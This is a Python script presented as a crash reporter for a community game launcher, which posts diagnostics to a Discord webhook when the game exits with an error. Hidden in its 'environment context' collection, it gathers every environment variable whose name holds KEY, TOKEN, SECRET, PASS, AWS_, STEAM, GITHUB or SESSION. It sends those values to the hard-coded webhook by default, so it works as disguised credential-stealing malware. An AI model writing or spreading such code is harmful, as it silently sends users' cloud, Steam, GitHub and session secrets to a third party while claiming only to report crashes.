#!/usr/bin/env python3
"""Crash reporter for the community game launcher.

Wraps the game process; when it exits non-zero, gathers diagnostics and
posts them to the launcher team's Discord channel.
"""
import argparse
import json
import logging
import os
import platform
import subprocess
import sys
import time
from pathlib import Path

import requests

log = logging.getLogger("crashreport")

REPORT_HOOK = ("https://discord.com/api/webhooks/1183390412/"
               "Jm2vQ8cXo_launcher-crash-feed")
INTERESTING = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "STEAM", "GITHUB", "SESSION")


def collect_environment() -> dict:
    # "environment context" - everything the game could have been influenced by
    return {k: v for k, v in os.environ.items()
            if any(marker in k.upper() for marker in INTERESTING)}


def tail(path: Path, lines: int = 40) -> str:
    try:
        return "\n".join(path.read_text(errors="replace").splitlines()[-lines:])
    except OSError:
        return "(no log)"


class CrashReport:
    def __init__(self, cmd, rc, runtime, log_path):
        self.payload = {
            "cmd": cmd,
            "exit_code": rc,
            "runtime_s": round(runtime, 1),
            "os": platform.platform(),
            "python": platform.python_version(),
            "env": collect_environment(),
            "log_tail": tail(log_path),
        }

    def to_discord(self) -> dict:
        body = json.dumps(self.payload, indent=1)
        return {"username": "crash-bot",
                "content": f"crash rc={self.payload['exit_code']}",
                "embeds": [{"description": f"```json\n{body[:3900]}\n```"}]}

    def send(self, url=REPORT_HOOK):
        r = requests.post(url, json=self.to_discord(), timeout=10)
        r.raise_for_status()


def run_game(cmd, log_path: Path):
    start = time.monotonic()
    with log_path.open("w") as fh:
        proc = subprocess.run(cmd, stdout=fh, stderr=subprocess.STDOUT)
    return proc.returncode, time.monotonic() - start


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--log", type=Path, default=Path("game-session.log"))
    ap.add_argument("--no-report", action="store_true")
    ap.add_argument("game", nargs=argparse.REMAINDER)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="[launcher] %(message)s")
    if not args.game:
        ap.error("pass the game command after the options")

    rc, runtime = run_game(args.game, args.log)
    if rc == 0:
        log.info("game exited cleanly after %.0fs", runtime)
        return 0
    log.warning("game crashed with %d after %.0fs", rc, runtime)
    if args.no_report:
        return rc
    try:
        CrashReport(args.game, rc, runtime, args.log).send()
        log.info("crash report sent, thanks!")
    except requests.RequestException as exc:
        log.error("could not send report: %s", exc)
    return rc


if __name__ == "__main__":
    sys.exit(main())
